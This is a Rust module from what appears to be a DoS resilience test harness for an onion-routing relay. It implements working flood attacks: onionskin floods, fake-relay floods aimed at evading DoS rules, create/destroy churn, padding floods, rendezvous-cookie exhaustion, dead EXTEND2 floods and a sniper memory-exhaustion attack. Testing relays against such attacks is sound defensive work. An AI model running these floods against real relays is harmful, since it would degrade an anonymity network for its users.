//! Attacks by cells that make, extend and fill circuits.

use std::collections::HashMap;
use std::io::ErrorKind;
use std::net::{Ipv4Addr, SocketAddr, TcpListener};
use std::time::{Duration, Instant};

use anyhow::{Result, ensure};
use rand::Rng as _;
use weft_cell::circ_msg::{CreateReply, CreateRequest};
use weft_cell::identity::{Ed25519Identity, RsaIdentity};
use weft_cell::{Cell, ChanCmd, RelayCmd};
use weft_crypto::handshake::{fast, ntor};

use super::cast::{ATTACKERS, attacker};
use super::circuit::{Circuit, INITIATOR, create2, extend2};
use super::definition::{Attack, NO_LEAD};
use super::peer::{BEAT, PATIENCE, Peer, connect};
use super::probes::Want;
use super::scene::Scene;
use super::servers::Holes;
use super::target::Needs;

/// Circuits that a link may have before a flood opens another link.
pub(super) const CIRCUITS_OF_A_LINK: u32 = 20_000;

pub(super) const ONIONSKIN_FLOOD: Attack = Attack {
    name: "onionskin-flood",
    what: "CREATE2 with a valid onionskin, on one client's link",
    bound: "the rate; 20,000 circuits of a link at a time",
    needs: Needs::RELAY,
    want: Want::Circuit,
    destination: None,
    lead: NO_LEAD,
    run: onionskin_flood,
};

fn onionskin_flood(scene: &Scene<'_>) -> Result<()> {
    scene.again(|| flood_onionskins(scene, scene.client(0)?));
    Ok(())
}

pub(super) const MADE_UP_RELAYS: Attack = Attack {
    name: "made-up-relays",
    what: "The same by peers that made themselves relays, while rules against such floods are in force",
    bound: "the rate; four identities and addresses in turns",
    needs: Needs {
        dos_rules: true,
        ..Needs::RELAY
    },
    want: Want::Circuit,
    destination: None,
    lead: NO_LEAD,
    run: made_up_relays,
};

fn made_up_relays(scene: &Scene<'_>) -> Result<()> {
    let mut number = 0;
    scene.again(|| {
        number = (number + 1) % ATTACKERS;
        flood_onionskins(scene, scene.relay(number)?)
    });
    Ok(())
}

fn flood_onionskins(scene: &Scene<'_>, mut peer: Peer) -> Result<()> {
    let state = ntor::ClientState::start(&scene.aim.rsa, &scene.aim.ntor, &mut peer.rng);
    let mut cell = create2(INITIATOR, &state.onionskin())?;
    for first in (1..=CIRCUITS_OF_A_LINK).step_by(30) {
        let mut cells = Vec::new();
        for id in first..first + 30 {
            cell.set_circ_id(INITIATOR | id);
            cells.extend_from_slice(cell.as_bytes());
        }
        scene.send_blindly(&mut peer, &cells)?;
        scene.did(30);
        if scene.is_over() {
            break;
        }
    }
    Ok(())
}

pub(super) const DESTROY_CHURN: Attack = Attack {
    name: "destroy-churn",
    what: "CREATE_FAST and DESTROY of one circuit in one record, again and again",
    bound: "the rate",
    needs: Needs::RELAY,
    want: Want::Circuit,
    destination: None,
    lead: NO_LEAD,
    run: destroy_churn,
};

fn destroy_churn(scene: &Scene<'_>) -> Result<()> {
    scene.again(|| {
        let mut peer = scene.client(0)?;
        let mut id = 0;
        while !scene.is_over() {
            let mut cells = Vec::new();
            for _ in 0..15 {
                id = (id + 1) % (INITIATOR - 1) + 1;
                for command in [ChanCmd::CREATE_FAST, ChanCmd::DESTROY] {
                    cells.extend_from_slice(Cell::new(INITIATOR | id, command).as_bytes());
                }
            }
            scene.send_blindly(&mut peer, &cells)?;
            scene.did(15);
        }
        Ok(())
    });
    Ok(())
}

pub(super) const PADDING_FLOOD: Attack = Attack {
    name: "padding-flood",
    what: "PADDING on a link, and DROP on a circuit, by turns",
    bound: "the rate",
    needs: Needs::RELAY,
    want: Want::Circuit,
    destination: None,
    lead: NO_LEAD,
    run: padding_flood,
};

fn padding_flood(scene: &Scene<'_>) -> Result<()> {
    scene.again(|| {
        let mut peer = scene.client(0)?;
        let mut circuit = Circuit::create_fast(&mut peer, 1)?;
        let padding = Cell::new(0, ChanCmd::PADDING);
        while !scene.is_over() {
            let mut cells = Vec::new();
            for _ in 0..15 {
                let drop = circuit.cell(RelayCmd::DROP, 0, &[0; 400], &mut peer.rng)?;
                cells.extend_from_slice(padding.as_bytes());
                cells.extend_from_slice(drop.as_bytes());
            }
            scene.send_blindly(&mut peer, &cells)?;
            scene.did(30);
        }
        Ok(())
    });
    Ok(())
}

pub(super) const RENDEZVOUS_COOKIES: Attack = Attack {
    name: "rendezvous-cookies",
    what: "Circuits that each leave a rendezvous cookie and stay",
    bound: "the rate; 20,000 circuits of a link at a time",
    needs: Needs::RELAY,
    want: Want::Circuit,
    destination: None,
    lead: NO_LEAD,
    run: rendezvous_cookies,
};

fn rendezvous_cookies(scene: &Scene<'_>) -> Result<()> {
    let mut link = 0;
    scene.again(|| {
        link += 1;
        let mut peer = scene.relay(link)?;
        let mut next = 1;
        while next < CIRCUITS_OF_A_LINK && !scene.is_over() {
            let mut circuits = create_many(scene, &mut peer, next, 30)?;
            next += 30;
            let mut cells = Vec::new();
            for circuit in &mut circuits {
                let mut cookie = [0; 20];
                peer.rng.fill_bytes(&mut cookie);
                let establish = RelayCmd::ESTABLISH_RENDEZVOUS;
                let cell = circuit.cell(establish, 0, &cookie, &mut peer.rng)?;
                cells.extend_from_slice(cell.as_bytes());
            }
            scene.send(&mut peer, &cells)?;
            scene.did(circuits.len() as u64);
            while peer.next_cell()?.is_some() {}
        }
        Ok(())
    });
    Ok(())
}

/// Circuits of ids from `first` on, made in one go by CREATE_FAST.
pub(super) fn create_many(
    scene: &Scene<'_>,
    peer: &mut Peer,
    first: u32,
    count: u32,
) -> Result<Vec<Circuit>> {
    let mut states = HashMap::new();
    let mut cells = Vec::new();
    for id in first..first + count {
        let state = fast::ClientState::start(&mut peer.rng);
        let request = CreateRequest::Fast { x: *state.x() };
        cells.extend_from_slice(request.encode(INITIATOR | id)?.as_bytes());
        states.insert(id, state);
    }
    scene.send(peer, &cells)?;
    let deadline = Instant::now() + PATIENCE;
    let mut made = Vec::new();
    while !states.is_empty() && !scene.is_over() {
        let cell = peer.wait_cell(deadline)?;
        let id = cell.circ_id() & !INITIATOR;
        let Some(state) = states.remove(&id) else {
            continue;
        };
        ensure!(
            cell.command() == ChanCmd::CREATED_FAST,
            "the target answered CREATE_FAST with {}",
            cell.command()
        );
        let CreateReply::Fast { y, kh } = CreateReply::decode(cell.command(), cell.body())? else {
            continue;
        };
        made.push(Circuit::made(
            INITIATOR | id,
            &state.finish(&y, &kh)?.into(),
        ));
    }
    Ok(made)
}

pub(super) const DEAD_EXTENDS: Attack = Attack {
    name: "dead-extends",
    what: "EXTEND2 to the relay that honest circuits extend to, and to made-up relays, at addresses \
           that never answer",
    bound: "1,000 circuits at a time, 16 of them to that relay",
    needs: Needs::RELAY,
    want: Want::Circuit,
    destination: None,
    lead: Duration::from_secs(1),
    run: dead_extends,
};

fn dead_extends(scene: &Scene<'_>) -> Result<()> {
    let holes = Holes::dig(16)?;
    let hop = &scene.cast.honest_hop;
    scene.again(|| {
        let mut peer = scene.client(0)?;
        let mut number = 0;
        for round in 0..33 {
            let mut circuits = create_many(scene, &mut peer, round * 30 + 1, 30)?;
            let mut cells = Vec::new();
            for circuit in &mut circuits {
                number += 1;
                let (mut rsa, mut ed25519) = (hop.rsa, hop.ed25519);
                if number > 16 {
                    peer.rng.fill_bytes(&mut rsa.0);
                    peer.rng.fill_bytes(&mut ed25519.0);
                }
                let data = extend2(rsa, ed25519, holes.address(number)?, &[7; 84])?;
                let cell = circuit.cell(RelayCmd::EXTEND2, 0, &data, &mut peer.rng)?;
                cells.extend_from_slice(cell.as_bytes());
            }
            scene.send(&mut peer, &cells)?;
            scene.did(circuits.len() as u64);
            if scene.is_over() {
                return Ok(());
            }
        }
        // They wait; those that have been given up are not tried again on this link.
        let until = Instant::now() + Duration::from_secs(10);
        while !scene.is_over() && Instant::now() < until {
            peer.pump(BEAT)?;
            while peer.next_cell()?.is_some() {}
        }
        Ok(())
    });
    Ok(())
}

pub(super) const EXTEND_FLOOD: Attack = Attack {
    name: "extend-flood",
    what: "EXTEND2 to made-up relays where nobody listens, each on a new circuit",
    bound: "the rate; 30 at a time",
    needs: Needs::RELAY,
    want: Want::Circuit,
    destination: None,
    lead: NO_LEAD,
    run: extend_flood,
};

fn extend_flood(scene: &Scene<'_>) -> Result<()> {
    // A port of ours on which nobody listens, for as long as we hold it.
    let port = weft_testnet::ports::Port::reserve()?;
    scene.again(|| {
        let mut peer = scene.client(0)?;
        let mut next = 1;
        while !scene.is_over() {
            let mut circuits = create_many(scene, &mut peer, next, 30)?;
            next += 30;
            let mut cells = Vec::new();
            for circuit in &mut circuits {
                let (mut rsa, mut ed25519) = (RsaIdentity([0; 20]), Ed25519Identity([0; 32]));
                peer.rng.fill_bytes(&mut rsa.0);
                peer.rng.fill_bytes(&mut ed25519.0);
                let data = extend2(rsa, ed25519, port.address(), &[7; 84])?;
                let cell = circuit.cell(RelayCmd::EXTEND2, 0, &data, &mut peer.rng)?;
                cells.extend_from_slice(cell.as_bytes());
                let destroy = Cell::new(circuit.id, ChanCmd::DESTROY);
                cells.extend_from_slice(destroy.as_bytes());
            }
            scene.send(&mut peer, &cells)?;
            scene.did(circuits.len() as u64);
            while peer.next_cell()?.is_some() {}
        }
        Ok(())
    });
    Ok(())
}

pub(super) const SNIPER: Attack = Attack {
    name: "sniper",
    what: "Circuits whose next hop, the attacker's, fills them toward a client that stops reading",
    bound: "the rate; 64 circuits, 2,400 cells for each",
    needs: Needs {
        little_memory: true,
        ..Needs::RELAY
    },
    want: Want::Circuit,
    destination: None,
    lead: Duration::from_secs(6),
    run: sniper,
};

fn sniper(scene: &Scene<'_>) -> Result<()> {
    const CIRCUITS: usize = 64;
    const CELLS: usize = 2400;
    let (listener, at) = listen(Ipv4Addr::LOCALHOST)?;
    let mut number = 0;
    scene.again(|| {
        number = (number + 1) % ATTACKERS;
        let socket = connect(attacker(number), scene.aim.address, Some(4096))?;
        let mut client = Peer::open(socket, &scene.cast.client, scene.seed())?;
        let (mut hop, ids) =
            extend_to_ourselves(scene, &mut client, number, &listener, at, CIRCUITS)?;
        for _ in 0..CELLS / 30 {
            for id in &ids {
                let mut cell = Cell::new(*id, ChanCmd::RELAY);
                cell.body_mut().fill(0x77);
                let cells: Vec<u8> = (0..30).flat_map(|_| *cell.as_bytes()).collect();
                scene.send(&mut hop, &cells)?;
                scene.did(30);
                while hop.next_cell()?.is_some() {}
                if scene.is_over() {
                    return Ok(());
                }
            }
        }
        while !scene.is_over() {
            hop.pump(BEAT)?;
            while hop.next_cell()?.is_some() {}
        }
        Ok(())
    });
    Ok(())
}

/// A listener of a relay that we play, and its address.
pub(super) fn listen(ip: Ipv4Addr) -> Result<(TcpListener, SocketAddr)> {
    let listener = TcpListener::bind((ip, 0))?;
    listener.set_nonblocking(true)?;
    let at = listener.local_addr()?;
    Ok((listener, at))
}

/// Circuits of a client's link, all extended to a relay that we play: its link, and their ids on it.
pub(super) fn extend_to_ourselves(
    scene: &Scene<'_>,
    client: &mut Peer,
    number: usize,
    listener: &TcpListener,
    at: SocketAddr,
    count: usize,
) -> Result<(Peer, Vec<u32>)> {
    let identity = scene.identity(number);
    let mut circuits = create_many(scene, client, 1, u32::try_from(count)?)?;
    for circuit in &mut circuits {
        let data = extend2(identity.rsa, identity.ed25519, at, &[7; 84])?;
        circuit.send(client, RelayCmd::EXTEND2, 0, &data)?;
    }
    let deadline = Instant::now() + PATIENCE;
    let mut hop = loop {
        ensure!(
            Instant::now() < deadline && !scene.is_over(),
            "no link in time"
        );
        client.pump(Duration::from_millis(2))?;
        match listener.accept() {
            Ok((socket, _)) => break Peer::accept(socket, &identity.tls, scene.seed())?,
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(error) => return Err(error.into()),
        }
    };
    let mut ids = Vec::new();
    while ids.len() < count {
        let cell = hop.wait_cell(deadline)?;
        if cell.command() == ChanCmd::CREATE2 {
            ids.push(cell.circ_id());
            // Nobody checks it: the client is ours, too.
            let reply = CreateReply::Created2 {
                data: vec![7; ntor::REPLY_LEN],
            };
            hop.queue(reply.encode(cell.circ_id())?.as_bytes())?;
        }
    }
    hop.pump(BEAT)?;
    Ok((hop, ids))
}
